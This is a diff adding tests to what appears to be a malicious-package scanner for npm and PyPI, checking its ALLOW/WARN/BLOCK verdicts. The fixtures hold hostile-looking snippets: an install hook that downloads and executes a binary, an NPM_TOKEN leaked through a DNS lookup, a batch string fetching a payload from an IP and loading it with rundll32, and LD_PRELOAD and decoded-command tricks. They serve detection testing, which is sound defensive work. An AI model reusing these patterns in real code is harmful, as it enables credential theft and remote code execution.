@@ -96,12 +96,55 @@ https.get(url, (res) => { const out = fs.createWriteStream('bin/esbuild'); res.p
     expect(r.findings[0]).toMatchObject({ category: 'remote_code_execution', file: 'index.js', line: 1 });
   });
 
+  it('scans a file too big to read whole, in chunks, and finds a sink near its end with its line', async () => {
+    const filler = 'var a = 1;\n'.repeat(500_000);
+    const r = await analyze({ 'package.json': manifest({ main: 'index.js' }), 'index.js': 'module.exports = 1;\n', 'dist/vendor.js': `${filler}eval(atob('Y29uc29sZS5sb2coMSk='));\n` });
+    expect(r.verdict).toBe('WARN');
+    expect(r.findings[0]).toMatchObject({ category: 'obfuscation', file: 'dist/vendor.js', line: 500_001 });
+  });
+
+  it('lowers a download-and-run from the vendor site named in package.json, and not from another host', async () => {
+    const install = (host: string) => `const https = require('https'); const fs = require('fs'); const cp = require('child_process');
+https.get('https://${host}/client.bin', (res) => { res.pipe(fs.createWriteStream('client.bin')).on('finish', () => { fs.chmodSync('client.bin', 0o755); cp.execFileSync('./client.bin'); }); });
+`;
+    const vendor = await analyze({ 'package.json': manifest({ homepage: 'https://www.dbvendor.example', scripts: { install: 'node install.js' } }), 'install.js': install('download.dbvendor.example') });
+    expect(vendor.verdict).toBe('ALLOW');
+    expect(vendor.findings).toContainEqual(expect.objectContaining({ severity: 'LOW', title: 'Downloads and runs a file from the vendor’s own site (named in its metadata)' }));
+    const other = await analyze({ 'package.json': manifest({ homepage: 'https://www.dbvendor.example', scripts: { install: 'node install.js' } }), 'install.js': install('cdn.fastfiles.example') });
+    expect(other.verdict).toBe('BLOCK');
+  });
+
+  it('does not read an AI CLI’s own help text about --yolo as a bypass', async () => {
+    const r = await analyze({ 'package.json': manifest({ bin: { ai: 'cli.js' } }), 'cli.js': `const { spawn } = require('child_process');\nconst msg = 'Cannot use both --yolo (-y) and --approval-mode together.';\nspawn('git', ['status']);\nmodule.exports = msg;\n` });
+    expect(r.verdict).toBe('ALLOW');
+  });
+
   it('keeps a CLI that reads HOME and spawns git with the environment at ALLOW', async () => {
     const r = await analyze({
       'package.json': manifest({ bin: { tool: 'cli.js' } }),
       'cli.js': `#!/usr/bin/env node\nconst { spawn } = require('child_process');\nconst home = process.env.HOME;\nspawn('git', ['status'], { env: { ...process.env, GIT_DIR: home + '/.git' }, stdio: 'inherit' });\nfetch('https://api.example/version').then((r) => r.json());\n`,
     });
     expect(r).toMatchObject({ verdict: 'ALLOW', findings: [] });
+  });
+  it('warns on a process API called through a literal computed member, and on a method named by a hand-written decoder', async () => {
+    const r = await analyze({ 'package.json': manifest({ main: 'index.js' }), 'index.js': `const cp = require('child_process');\ncp['spawn']('node', ['w.js']);\n` });
+    expect(r.verdict).toBe('WARN');
+    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'obfuscation', severity: 'HIGH', title: 'Calls a sensitive API through a computed name or reflection', line: 2, evidence: "cp['spawn'] → child_process.spawn (computed member)" }));
+    const d = await analyze({ 'package.json': manifest({ main: 'index.js' }), 'index.js': `const k = (s) => s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) - 1)).join('');\nglobalThis[k('gfudi')](u);\n` });
+    expect(d.findings).toContainEqual(expect.objectContaining({ title: 'Calls a method or loads a module whose name is decoded at run time', line: 2 }));
+  });
+
+  it('blocks a secret put into a DNS name, and leaves a lookup of a configured host alone', async () => {
+    const r = await analyze({ 'package.json': manifest({ main: 'index.js' }), 'index.js': `const dns = require('dns');\nconst t = process.env.NPM_TOKEN;\ndns.lookup(\`\${t}.x.example\`, () => {});\n` });
+    expect(r.verdict).toBe('BLOCK');
+    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'exfiltration', severity: 'CRIT', title: 'Puts secrets or host identity into a DNS name it looks up', line: 3 }));
+    const ok = await analyze({ 'package.json': manifest({ main: 'index.js' }), 'index.js': `const dns = require('dns');\nmodule.exports = (c) => dns.lookup(c.host, () => {});\n` });
+    expect(ok.verdict).toBe('ALLOW');
+  });
+
+  it('reads a batch or shell script carried as a string as the commands it holds', async () => {
+    const r = await analyze({ 'package.json': manifest({ main: 'index.js' }), 'index.js': `const bat = '@echo off\\ncurl -o t.b http://203.0.113.4/t\\nrundll32 t.b,Run\\n';\nmodule.exports = bat;\n` });
+    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'remote_code_execution', severity: 'HIGH', title: 'Carries a shell or batch script that downloads or loads payloads', line: 1 }));
   });
 });
 
@@ -148,5 +191,28 @@ describe('analyzePackage (PyPI)', () => {
   it('allows a plain setup.py', async () => {
     const r = await analyze({ 'setup.py': `from setuptools import setup, find_packages\nsetup(name='plainlib', version='1.0', packages=find_packages(), long_description=open('README.md').read())\n`, 'plainlib/__init__.py': 'import os\nHOME = os.environ.get("HOME")\n' });
     expect(r.verdict).toBe('ALLOW');
+  });
+  it('warns on a file written from a download whose address is not a constant, then made executable', async () => {
+    const r = await analyze({
+      'setup.py': `from setuptools import setup\nsetup(name='x-lib', packages=['x_lib'])\n`,
+      'x_lib/__init__.py': `import os, requests\ndef f(url, path):\n    r = requests.get(url)\n    with open(path, 'wb') as out:\n        out.write(r.content)\n    os.chmod(path, 0o755)\n`,
+    });
+    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'remote_code_execution', severity: 'HIGH', title: 'Writes what it downloads to a file and makes it executable or runs it', line: 6 }));
+    const vendor = await analyze({
+      'setup.py': `from setuptools import setup\nsetup(name='x-lib', packages=['x_lib'])\n`,
+      'x_lib/__init__.py': `import os, requests\ndef f(path):\n    r = requests.get('https://github.com/o/r/releases/download/v1/tool')\n    with open(path, 'wb') as out:\n        out.write(r.content)\n    os.chmod(path, 0o755)\n`,
+    });
+    expect(vendor.verdict).toBe('ALLOW');
+    const release = await analyze({
+      'setup.py': `from setuptools import setup\nsetup(name='x-lib', packages=['x_lib'])\n`,
+      'x_lib/__init__.py': `import os, requests\ndef f(repo, v, path):\n    r = requests.get(f"https://github.com/{repo}/releases/download/{v}/tool")\n    with open(path, 'wb') as out:\n        out.write(r.content)\n    os.chmod(path, 0o755)\n`,
+    });
+    expect(release.verdict).toBe('ALLOW');
+  });
+  it('treats a bare spawn or Popen that no import resolves as a process runner', async () => {
+    const r = await analyze({ 'package.json': manifest({ main: 'index.js' }), 'index.js': `module.exports = () => spawn('LD_PRELOAD=/tmp/x.so', ['/usr/bin/id']);\n` });
+    expect(r.findings).toContainEqual(expect.objectContaining({ title: 'Preloads a library into another program (LD_PRELOAD)', line: 1 }));
+    const p = await analyze({ 'setup.py': `from setuptools import setup\nsetup(name='y-lib', packages=['y_lib'])\n`, 'y_lib/__init__.py': `import base64\nPopen(['python', '-c', base64.b64decode('cHJpbnQoMSk=')])\n` });
+    expect(p.findings).toContainEqual(expect.objectContaining({ title: 'Runs a command decoded at run time', line: 2 }));
   });
 });
